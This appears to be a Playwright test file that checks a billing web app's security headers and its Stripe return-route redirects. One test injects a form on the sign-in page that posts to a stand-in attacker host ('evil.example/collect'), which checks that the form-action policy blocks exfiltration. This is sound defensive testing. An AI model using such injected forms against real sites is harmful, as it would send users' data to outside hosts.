import { environment } from './environment'
import { expect, test } from './fixtures'

// That nothing is blocked which should not be is watched in every test: a violation is an error on the console.

const stripe = 'https://checkout.stripe.com https://billing.stripe.com https://invoice.stripe.com'

test('every page names where its forms may lead, and nothing else', async ({ owner, page }) => {
  for (const path of ['/', '/pricing', '/sign-in', '/dashboard', '/account/billing', '/no-such-page']) {
    const answer = await page.request.get(environment.appUrl + path)
    const policy = answer.headers()['content-security-policy'] ?? ''
    expect(policy.split('; ')).toContain(`form-action 'self' ${stripe} http://localhost:* http://127.0.0.1:*`)
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).not.toContain('unsafe-eval')
    expect(answer.headers()['x-content-type-options']).toBe('nosniff')
    expect(answer.headers()['referrer-policy']).toBe('strict-origin-when-cross-origin')
    expect(answer.headers()['x-powered-by']).toBeUndefined()
  }
  expect(owner.email).toContain('@')
})

test('on a public address no form may lead to the visitor’s own machine', async () => {
  for (const path of ['/', '/pricing', '/sign-in']) {
    const answer = await fetch(environment.appUrl + path, { headers: { host: 'app.example.com' } })
    const policy = answer.headers.get('content-security-policy') ?? ''
    expect(policy.split('; ')).toContain(`form-action 'self' ${stripe}`)
    expect(policy).not.toContain('localhost')
  }
})

test('a form of ours that is pointed elsewhere stays where it is', async ({ page, problems }) => {
  await page.goto('/sign-in')
  const blocked = page.waitForEvent('console', (message) => message.text().includes('form-action'))
  await page.evaluate(() => {
    const form = document.createElement('form')
    form.action = 'https://evil.example/collect'
    form.method = 'post'
    document.body.append(form)
    form.submit()
  })
  await blocked
  expect(new URL(page.url()).pathname).toBe('/sign-in')
  expect(problems.splice(0)).toHaveLength(1)
})

test('the return routes are never kept by a cache, and answer 303', async ({ owner, page }) => {
  const paths = ['subscription_canceled', 'payment_method_updated', 'subscription_started', 'portal_returned']
  for (const path of paths) {
    const answer = await page.request.get(`${environment.appUrl}/account/${path}`, { maxRedirects: 0 })
    expect(answer.status()).toBe(303)
    expect(answer.headers()['cache-control']).toBe('no-store')
    expect(answer.headers().location).toBe(`${environment.appUrl}/account/billing?flow=none`)
  }
  expect(owner.teamId).toBeTruthy()
})
